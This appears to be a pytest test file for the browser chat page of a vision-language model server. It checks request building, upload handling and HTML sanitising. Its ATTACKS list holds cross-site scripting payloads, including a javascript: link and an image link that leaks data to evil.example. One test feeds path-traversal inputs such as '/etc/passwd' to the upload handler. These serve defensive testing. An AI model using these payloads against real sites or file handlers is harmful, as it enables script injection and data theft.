"""The page's logic without a browser: what goes to a server, what comes of an answer, what may be in its HTML."""

from __future__ import annotations

import asyncio
import html.parser
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from PIL import Image

from internvl.data.image import choose_grid
from internvl.data.prompts import Image as Picture
from internvl.data.prompts import Message, Text, Video
from internvl.errors import MediaRefused
from internvl.inference.contents import contents
from internvl.serving.fields import understood
from internvl.serving.page import words
from internvl.serving.page.desk import EXAMPLES, GALLERY, asked_of, name_of
from internvl.serving.page.notes import LARGEST, note_of, write
from internvl.serving.page.share import html_of
from internvl.serving.page.talk import (
    Shown,
    Talk,
    Took,
    Turn,
    Upload,
    Wishes,
    content_of,
    messages_of,
    request_of,
    seed_of,
    whole,
)
from internvl.serving.page.view import View, answer_text, grid_of, items, markdown, regions
from internvl.serving.page.words import LANGUAGES, WORDS, say
from internvl.serving.schema import ChatRequest

VIEW = View("en", lambda shown: "picture.png")


@pytest.fixture
def pictures(tmp_path):
    """Five different pictures as files of the page."""
    for place in range(5):
        Image.new("RGB", (20 + place, 10), (40 * place, 0, 0)).save(tmp_path / f"{place}.png")
    return [tmp_path / f"{place}.png" for place in range(5)]


def photo(file: Path) -> Image.Image:
    """As a reader opens it: with its format."""
    with Image.open(file) as opened:
        opened.load()
        return opened


def shown(file: Path, kind="picture", **more) -> Shown:
    return Shown(kind, file, photo(file).size, **more)


def turn_with(*uploads: Upload, text="What is it?") -> Turn:
    return Turn(1, text, uploads)


def plain(sent: list[dict]) -> list:
    """Parts without what a frame's picture says beside its address."""
    return [part if part["type"] == "text" else part["image_url"]["url"] for part in sent]


# ---- what goes over the wire -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("stills", [0, 1, 2])
@pytest.mark.parametrize("frames", [0, 1, 3])
def test_a_question_is_sent_in_the_form_that_the_rest_of_the_package_sends(pictures, stills, frames):
    """So it becomes the same prompt, however the family writes it."""
    files = pictures[: stills + frames]
    ours = [Upload("a", (shown(file),)) for file in files[:stills]]
    if frames:
        ours.append(Upload("v", tuple(shown(file, "frame", number=n) for n, file in enumerate(files[stills:], 1))))
    photos = [photo(file) for file in files]
    video = (Video(tuple(photos[stills:])),) if frames else ()
    message = Message("user", (*map(Picture, photos[:stills]), *video, Text("What is it?")))
    [theirs] = contents([message], [file.read_bytes() for file in files])
    sent = content_of(turn_with(*ours))
    if isinstance(sent, str):
        assert sent == theirs["content"]
    else:
        assert plain(sent) == plain(theirs["content"])


def test_a_frame_is_one_tile_and_a_page_has_its_share(pictures):
    frame = Upload("v", (shown(pictures[0], "frame"),))
    page = Upload("d", (shown(pictures[1], "page"),))
    details = [part["image_url"].get("detail") for part in content_of(turn_with(page, frame)) if "image_url" in part]
    assert details == [None, "low"]


def test_what_failed_is_no_part_of_the_conversation(pictures):
    turns = [
        Turn(1, "one", answer="1", state="done"),
        Turn(2, "two", answer="", state="failed", failure=("away", {})),
        Turn(3, "three", answer="half", state="stopped"),
        Turn(4, "four"),
    ]
    said = [(one["role"], one["content"]) for one in messages_of(turns, " Be brief. ")]
    assert said == [
        ("system", " Be brief. "), ("user", "one"), ("assistant", "1"), ("user", "three"), ("assistant", "half"),
        ("user", "four"),
    ]  # fmt: skip


numbers = st.floats(0, 2)


@given(
    temperature=numbers,
    top_p=st.floats(0.05, 1),
    top_k=st.integers(0, 100),
    penalty=st.floats(1, 2),
    tokens=st.integers(16, 4096),
    seed=st.none() | st.integers(-(2**62), 2**62),
    tiles=st.integers(0, 40),
    owner=st.sampled_from([None, "internvl", "vllm", "someone"]),
)
def test_every_setting_makes_a_request_that_the_server_understands(
    temperature, top_p, top_k, penalty, tokens, seed, tiles, owner
):
    wishes = Wishes(
        model="nano", owner=owner, temperature=temperature, top_p=top_p, top_k=top_k, repetition_penalty=penalty,
        max_tokens=tokens, seed=seed, max_tiles=tiles,
    )  # fmt: skip
    body = request_of(wishes, [{"role": "user", "content": "Hi"}])
    understood(ChatRequest, body)
    if owner not in ("internvl", "vllm"):
        assert not body.keys() & {"top_k", "repetition_penalty", "max_tiles"}
    assert set(wishes.left_out) == wishes.wanted.keys() - body.keys(), "what is asked for is sent, or told"
    if owner == "internvl" and tiles:
        assert body["max_tiles"] == tiles
    if temperature == 0:
        assert not body.keys() & {"seed", "top_p", "top_k"}


@pytest.mark.parametrize(("value", "number"), [(3.0, 3), (None, None), ("7", None), (float("nan"), None), (True, None)])
def test_a_number_field_may_hold_anything(value, number):
    assert whole(value) == number


@pytest.mark.parametrize(
    ("typed", "seed"), [("", None), (" 7 ", 7), ("-3", -3), ("1e3", None), ("٣", None), (None, None)]
)
def test_a_seed_is_a_whole_number_or_none(typed, seed):
    assert seed_of(typed) == seed


@pytest.mark.parametrize("data", [None, [], "x", {"files": "x"}, {"files": [1, {"place": 3}], "since": "1"}])
def test_what_a_browser_sends_may_be_anything(tmp_path, data):
    assert asked_of(data, tmp_path).files == ()


def test_only_files_that_came_in_by_the_page_are_taken(tmp_path):
    folder, outside = tmp_path / "page", tmp_path / "secret.png"
    folder.mkdir()
    outside.write_bytes(b"x")
    inside = folder / "a.png"
    inside.write_bytes(b"x")
    (folder / "link.png").symlink_to(outside)
    tried = [inside, outside, folder / ".." / "secret.png", folder / "link.png", "a.png", "/etc/passwd", folder]
    data = {"files": [{"place": str(one), "name": "../../x\n.png"} for one in tried]}
    assert asked_of(data, folder).files == ((inside, ".. .. x .png"),)
    assert name_of(" \x00 ") == "file"


# ---- words -----------------------------------------------------------------------------------------------------------


def test_both_languages_say_everything_and_fill_in_the_same():
    for word, said in WORDS.items():
        assert len(said) == len(LANGUAGES)
        assert all(one.strip() for one in said), word
        assert len({tuple(sorted(re.findall(r"{(\w+)}", one))) for one in said}) == 1, word


def test_every_word_that_is_used_is_known():
    """In Python, in the component and in its template."""
    folder = Path(words.__file__).parent
    text = "".join(file.read_text(encoding="utf-8") for file in folder.glob("*.py"))
    script = (folder / "files" / "talk.js").read_text(encoding="utf-8")
    template = (folder / "files" / "talk.html").read_text(encoding="utf-8")
    used = set(re.findall(r"""\bsay\(\s*"(\w+)\"""", text)) | set(re.findall(r"""Failed\("(\w+)\"""", text))
    assert used <= WORDS.keys()
    browser = set(re.findall(r"\bsay\('(\w+)'", script))
    browser |= set(re.findall(r'data-(?:word|label|place)="(\w+)"', template))
    assert browser <= set(words.IN_THE_BROWSER)
    assert len(used) > 20
    assert len(browser) > 20


def test_the_pictures_of_the_gallery_are_there():
    assert GALLERY
    assert all((EXAMPLES / one.file).is_file() for one in GALLERY)


def test_the_gallery_speaks_both_languages():
    assert all(set(one.question) == set(LANGUAGES) for one in GALLERY)


# ---- what an answer may be -------------------------------------------------------------------------------------------


class Tags(html.parser.HTMLParser):
    """What a browser would find in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []

    def handle_starttag(self, tag, attrs):
        self.names.append(tag)
        self.attributes += attrs


def tags(text: str) -> Tags:
    found = Tags()
    found.feed(text)
    return found


ATTACKS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.example/?leak)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>1</script>)",
    "<svg/onload=alert(1)>",
    "[x](JaVaScRiPt:alert(1))",
    "<ref><img src=x onerror=alert(1)></ref><box>[[1,2,300,400]]</box>",
    '<ref>" onmouseover="alert(1)</ref><box>[[1,2,300,400]]</box>',
    "\ue0000\ue001 <ref>a</ref><box>[[1,2,3,4]]</box>",
    "<ref>a</ref><box>[[1,2,3,4]]</box>" * 300,
    "[a]: javascript:alert(1)\n\n[a]",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
)
HARMLESS = {
    "p", "em", "strong", "code", "pre", "a", "ul", "ol", "li", "table", "thead", "tbody", "tr", "th", "td", "hr", "br",
    "blockquote", "h1", "h2", "h3", "h4", "h5", "h6", "span", "div", "s", "button", "figure", "img", "svg", "polygon",
    "path", "figcaption",
}  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_answer_brings_html_of_its_own(attack, pictures):
    turn = turn_with(Upload(attack, (shown(pictures[0]),)), text=attack)
    turn.answer, turn.state = attack, "done"
    for state in ("done", "growing", "failed"):
        turn.state = state
        turn.failure = ("refused", {"said": attack}) if state == "failed" else None
        for item in items(Talk(turns=[turn]), lambda one: "picture.png"):
            check_harmless(item["html"])


@given(st.text(st.sampled_from("<>&\"'`[]()!{}*_#/:=x1,.\n\ue000\ue001") | st.characters(codec="utf-8"), max_size=60))
def test_no_text_at_all_does(text):
    check_harmless(answer_text(text, VIEW))
    check_harmless(answer_text(f"<ref>{text}</ref><box>[[1,2,3,4]]</box>", VIEW))


def check_harmless(text: str) -> None:
    found = tags(text)
    assert set(found.names) <= HARMLESS
    for name, value in found.attributes:
        assert not name.startswith("on"), (name, value)
        if name == "src":
            assert value == "picture.png"
        if name == "href":
            assert re.match(r"(https?:|mailto:|#$)", value or ""), value


def test_the_checker_of_html_sees_what_is_wrong():
    for attack in ("<script>1</script>", "<p onclick=x>", "<a href='javascript:1'>", "<img src='http://a'>"):
        with pytest.raises(AssertionError):
            check_harmless(attack)


def test_markdown_is_drawn():
    drawn = markdown("# A\n\n*b* **c** `d`\n\n| x | y |\n|---|---|\n| 1 | 2 |\n\n[e](https://a.org)")
    assert {"h1", "em", "strong", "code", "table", "a"} <= set(tags(drawn).names)
    assert 'rel="noopener noreferrer nofollow"' in drawn


def test_regions_are_drawn_where_they_are_and_their_words_point_at_them(pictures):
    turn = turn_with(Upload("a.png", (shown(pictures[0]),)))
    cat, two = (
        "<ref>cat</ref><box>[[100, 200, 300, 400]]</box>",
        "<ref>two</ref><box>[[0, 0, 10, 10], [5, 5, 9, 9]]</box>",
    )
    turn.answer = f"The {cat} and {two}"
    turn.state = "done"
    drawn = items(Talk(turns=[turn]), lambda one: "picture.png")[1]["html"]
    assert 'points="100,200 300,200 300,400 100,400"' in drawn
    assert drawn.count("<polygon") == 3
    assert re.findall(r'data-regions="([^"]*)"', drawn) == ["0", "1 2"]
    assert "&lt;box&gt;" not in drawn
    assert [box.label for box in regions(turn)] == ["cat", "two", "two"]


def test_regions_are_on_the_last_picture_that_was_shown(pictures):
    first, second = turn_with(Upload("a", (shown(pictures[0]),))), Turn(2, "Where?")
    second.answer, second.state = "<box>[[1,2,3,4]]</box>", "done"
    drawn = items(Talk(turns=[first, second]), lambda one: one.file.name)[3]["html"]
    assert 'src="0.png"' in drawn


@given(st.integers(1, 4000), st.integers(1, 4000), st.integers(1, 40))
def test_the_grid_is_the_one_that_the_picture_was_cut_by(width, height, most):
    """From the number of tiles alone, thumbnail counted, as /tokenize says it."""
    columns, rows = choose_grid(width, height, max_tiles=most)
    count = columns * rows
    assert grid_of(count + (count > 1), (width, height)) == (columns, rows)


def test_the_line_of_usage_says_what_it_took(pictures):
    turn = Turn(1, "x", answer="y", state="done", took=Took(first=0.5, seconds=1.5, prompt=300, image=256, answer=21))
    [_, said] = items(Talk(turns=[turn]), lambda one: "")
    assert "0.5 s" in said["html"]
    assert "21 tokens, 20 a second" in said["html"]
    assert "256" in said["html"]


# ---- a saved conversation, votes -------------------------------------------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_saved_conversation_stands_alone(pictures, language):
    upload = Upload("a.png", (shown(pictures[0]), shown(pictures[1], "page", number=2)))
    turn = Turn(1, "<script>alert(1)</script>", (upload,), model="nano</title><script>")
    turn.answer, turn.state = "<script>alert(2)</script> <ref>x</ref><box>[[1,2,3,4]]</box>", "done"
    text = html_of(Talk(language, [turn]), now=0)
    found = tags(text)
    assert "script" not in found.names
    assert "button" not in found.names
    sources = [value for name, value in found.attributes if name in ("src", "href", "action", "srcset")]
    assert sources
    assert all(value.startswith("data:image/png;base64,") for value in sources)
    assert "http" not in re.sub(r"http-equiv|http://www.w3.org", "", text)
    assert "default-src 'none'" in text
    assert say("saved_on", language, date="1970-01-01") in text


def test_a_picture_that_is_gone_is_told(pictures):
    turn = turn_with(Upload("a", (shown(pictures[0]),)))
    pictures[0].unlink()
    with pytest.raises(MediaRefused, match="is gone"):
        html_of(Talk(turns=[turn]))


def test_votes_are_lines_that_only_the_owner_reads(tmp_path, pictures):
    file = tmp_path / "votes.jsonl"
    turn = turn_with(Upload("a", (shown(pictures[0]),)), text="Was\nist das?")
    turn.answer, turn.model = "Ein Hund", "nano"
    assert write(file, note_of(turn, "flag", "r" * 9999, now=0))
    assert write(file, note_of(turn, "up", ""))
    lines = [json.loads(line) for line in file.read_text(encoding="utf-8").splitlines()]
    assert [line["vote"] for line in lines] == ["flag", "up"]
    assert lines[0]["time"] == "1970-01-01T00:00:00Z"
    assert lines[0]["question"] == "Was\nist das?"
    assert len(lines[0]["reason"]) == 2000
    assert file.stat().st_mode & 0o077 == 0


def test_a_full_file_of_votes_takes_no_more(tmp_path):
    file = tmp_path / "votes.jsonl"
    with file.open("wb") as out:
        out.truncate(LARGEST)
    assert not write(file, {"vote": "up"})
    assert file.stat().st_size == LARGEST


def test_a_talk_is_busy_while_an_answer_grows():
    talk = Talk()
    turn = talk.begin("Hi")
    assert talk.is_busy
    turn.state = "done"
    assert not talk.is_busy
    assert talk.begin("again").number == 2
    assert asyncio.iscoroutinefunction(talk.stopping.wait)
